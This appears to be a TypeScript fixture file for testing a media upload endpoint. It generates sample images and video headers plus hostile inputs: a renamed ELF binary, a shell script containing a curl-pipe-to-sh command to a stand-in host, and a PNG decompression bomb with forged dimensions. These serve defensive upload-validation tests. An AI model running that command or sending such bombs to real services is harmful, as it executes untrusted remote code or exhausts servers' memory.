/**
 * Files for the media tests: images generated with sharp, minimal video containers
 * that file-type recognises, hostile files, and a multipart body for `POST /api/media`.
 */
import { randomBytes } from 'node:crypto';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';

/** A multipart/form-data body with one file part (name, declared type and field chosen by the test). */
export function mediaForm(
  file: Buffer,
  opts: { filename?: string; contentType?: string; field?: string } = {},
): { payload: Buffer; headers: { 'content-type': string } } {
  const boundary = `----media${randomBytes(8).toString('hex')}`;
  const { filename = 'photo.png', contentType = 'image/png', field = 'file' } = opts;
  const payload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: ${contentType}\r\n\r\n`),
    file,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

const canvas = (width: number, height: number, background = '#3366cc') => sharp({ create: { width, height, channels: 3, background } });

export const png = (width = 64, height = 48) => canvas(width, height).png().toBuffer();
export const webp = (width = 64, height = 48) => canvas(width, height).webp().toBuffer();
export const gif = (width = 64, height = 48) => canvas(width, height).gif().toBuffer();
/** A JPEG carrying EXIF (copyright, GPS-like artist text) and orientation 6 (rotate 90° to view). */
export const jpegWithExif = (width = 80, height = 40) =>
  canvas(width, height)
    .jpeg()
    .withMetadata({ orientation: 6, exif: { IFD0: { Copyright: 'secret-owner', Artist: 'home at 31.5204N 74.3587E' } } })
    .toBuffer();
/** An animated GIF of `frames` frames, each width × height. */
export async function animatedGif(frames = 3, width = 40, height = 30): Promise<Buffer> {
  const colours = ['#ff0000', '#00ff00', '#0000ff', '#ffff00'];
  const pages = await Promise.all(
    Array.from({ length: frames }, (_, i) =>
      canvas(width, height, colours[i % colours.length])
        .png()
        .toBuffer(),
    ),
  );
  return sharp(pages, { join: { animated: true } })
    .gif()
    .toBuffer();
}

/** The smallest MP4 file-type recognises: an `ftyp` box (brand isom), padded to `size` bytes. */
export function mp4(size = 2048): Buffer {
  const ftyp = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypisom'), Buffer.from([0, 0, 2, 0]), Buffer.from('isomiso2')]);
  return Buffer.concat([ftyp, randomBytes(Math.max(0, size - ftyp.length))]);
}
/** An EBML header with DocType "webm", padded to `size` bytes. */
export function webm(size = 1024): Buffer {
  const doctype = Buffer.concat([Buffer.from([0x42, 0x82, 0x84]), Buffer.from('webm')]);
  const header = Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80 | doctype.length]), doctype]);
  return Buffer.concat([header, Buffer.alloc(Math.max(0, size - header.length))]);
}
/** An ELF executable's first bytes (what a renamed binary starts with). */
export const elf = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56), randomBytes(512)]);
export const shellScript = () => Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');

/**
 * A decompression bomb: a small PNG whose header claims `width` × `height` pixels (the IHDR chunk
 * rewritten with a valid checksum); a decoder that trusted it would allocate gigabytes.
 */
export async function pngBomb(width = 50_000, height = 50_000): Promise<Buffer> {
  const file = Buffer.from(await png(8, 8));
  file.writeUInt32BE(width, 16);
  file.writeUInt32BE(height, 20);
  file.writeUInt32BE(crc32(file.subarray(12, 29)), 29);
  return file;
}
